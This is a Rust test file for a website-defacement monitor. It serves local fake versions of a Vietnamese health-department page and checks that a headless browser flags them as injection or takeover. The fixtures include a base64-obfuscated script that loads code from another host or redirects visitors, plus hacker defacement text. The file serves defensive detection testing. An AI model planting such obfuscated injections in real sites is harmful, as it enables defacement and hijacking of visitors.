//! What a browser adds to a check that leaves a page unexplained.
#![expect(
    clippy::unwrap_used,
    reason = "a test that cannot be set up has failed"
)]

use std::path::Path;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use browser::Browser;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpListener;
use visit::{Limits, Manners, Names, Permission, VisitSettings, Web};
use watch::keeping::Contents;
use watch::{Approver, Check, Depth, Means, NotSeen, Reason, SiteMemory, Verdict, check};

/// The scripts that the page's own script loads or goes to, as it is told in a way that cannot be read without running it.
const OWN_SCRIPT: &str = "L293bi5qcw==";
const HONEST: &str = "Sở là cơ quan chuyên môn thuộc Uỷ ban nhân dân tỉnh.";

/// A site that shows one of several pages.
struct Site {
    port: u16,
    shown: Arc<AtomicUsize>,
}

fn page(text: &str, told: &str) -> String {
    format!(
        "<!doctype html><html lang=vi data-k='{told}'><meta charset=utf-8><title>Sở Y tế</title><h1>Sở Y tế</h1><p class=gioi-thieu>{text}</p>\
        <script>const t = atob(document.documentElement.dataset.k); if (t[0] === '>') location.href = t.slice(1); else {{\
        const s = document.createElement('script'); s.src = t; document.head.append(s) }}</script>"
    )
}

async fn serve() -> Site {
    let listener = TcpListener::bind("0.0.0.0:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let shown = Arc::new(AtomicUsize::new(0));
    let elsewhere = format!("http://127.0.0.2:{port}");
    let pages = [
        page(HONEST, OWN_SCRIPT),
        page(
            "Bọn tao vừa ghé chơi, lỗ hổng chưa vá đâu nhé, lần 2.",
            OWN_SCRIPT,
        ),
        page(
            "Bọn tao vừa ghé chơi, lỗ hổng chưa vá đâu nhé, lần 3.",
            &STANDARD.encode(format!("{elsewhere}/x.js")),
        ),
        page(
            "Bọn tao vừa ghé chơi, lỗ hổng chưa vá đâu nhé, lần 4.",
            &STANDARD.encode(format!(">{elsewhere}/gone")),
        ),
    ];
    let site = Site {
        port,
        shown: Arc::clone(&shown),
    };
    tokio::spawn(async move {
        loop {
            let (mut stream, _) = listener.accept().await.unwrap();
            let mut head = Vec::new();
            while !head.ends_with(b"\r\n\r\n") {
                match stream.read_u8().await {
                    Ok(byte) => head.push(byte),
                    Err(_) => break,
                }
            }
            let head = String::from_utf8(head).unwrap();
            let (kind, body) = if head.starts_with("GET / ") {
                ("text/html", pages[shown.load(Ordering::Relaxed)].clone())
            } else if head.contains(".js ") {
                ("text/javascript", "var loaded = 1".to_owned())
            } else {
                ("text/html", "<title>elsewhere</title>".to_owned())
            };
            let answer = format!(
                "HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                body.len()
            );
            let _ = stream.write_all(answer.as_bytes()).await;
        }
    });
    site
}

fn web() -> Web {
    let names = Names::of_servers(&["127.0.0.1:1".parse().unwrap()]).unwrap();
    let settings = VisitSettings {
        contact: "watch@cert.example".to_owned(),
        limits: Limits::default(),
        manners: Manners {
            pause: Duration::ZERO,
        },
        permission: Permission {
            hosts: ["127.0.0.1", "127.0.0.2"].map(str::to_owned).into(),
        },
        authorities: Vec::new(),
    };
    Web::new(names, settings).unwrap()
}

async fn look(browser: Option<&Browser>, site: &Site, memory: &SiteMemory, shown: usize) -> Check {
    site.shown.store(shown, Ordering::Relaxed);
    let web = web();
    let means = Means {
        browser,
        ..Means::new(&web, jiff::Timestamp::UNIX_EPOCH)
    };
    let url = format!("http://127.0.0.1:{}/", site.port);
    check(&means, &url, memory, None, Depth::Quick).await
}

#[tokio::test]
async fn a_browser_finds_what_reading_cannot_and_takes_nothing_back() {
    let Some(browser) = Browser::find() else {
        testkit::skipping::skipped(
            "checks with a browser",
            "chromium is not installed (apt-get install chromium)",
        );
        return;
    };
    let browser = browser.with_limits(browser::Limits {
        linger: Duration::from_millis(800),
        ..browser::Limits::default()
    });
    let site = serve().await;
    let mut memory = SiteMemory::default();
    let first = look(Some(&browser), &site, &memory, 0).await;
    assert_eq!(first.judgement.verdict, Verdict::Unexplained);
    let rendered = first.rendered.as_ref().unwrap();
    let folder = tempfile::tempdir().unwrap();
    let kept = Contents::in_folder(folder.path())
        .keep(&rendered.png)
        .unwrap();
    assert_eq!(rendered.screenshot, Some(kept.clone()));
    memory.approve(&first, &Approver::default());

    let text = look(Some(&browser), &site, &memory, 1).await;
    assert_eq!(
        text.judgement.verdict,
        Verdict::Unexplained,
        "{:?}",
        text.judgement.reasons
    );
    assert_eq!(text.rendered.unwrap().before, Some(kept));

    let script = look(Some(&browser), &site, &memory, 2).await;
    let origin = format!("http://127.0.0.2:{}", site.port);
    assert_eq!(
        script.judgement.verdict,
        Verdict::Injection,
        "{:?}",
        script.judgement.reasons
    );
    assert!(
        script
            .judgement
            .reasons
            .contains(&Reason::ScriptOrigin { origin })
    );

    let redirect = look(Some(&browser), &site, &memory, 3).await;
    assert_eq!(
        redirect.judgement.verdict,
        Verdict::Takeover,
        "{:?}",
        redirect.judgement.reasons
    );
    let same = look(Some(&browser), &site, &memory, 0).await;
    assert!(same.rendered.is_none() && same.browser_starts == 0);
    assert_eq!(browser.starts(), 4);
}

#[tokio::test]
async fn what_no_browser_showed_stays_unexplained_and_says_why() {
    let site = serve().await;
    let memory = SiteMemory::default();
    let none = look(None, &site, &memory, 0).await;
    assert_eq!(none.rendered.unwrap().not_seen, Some(NotSeen::NoBrowser));
    let broken = Browser::at(Path::new("/bin/false")).unwrap();
    let failed = look(Some(&broken), &site, &memory, 0).await;
    assert_eq!(failed.judgement.verdict, Verdict::Unexplained);
    assert!(matches!(
        failed.judgement.reasons.as_slice(),
        [Reason::NotSeen { .. }]
    ));
    assert_eq!(failed.browser_starts, 1);
}
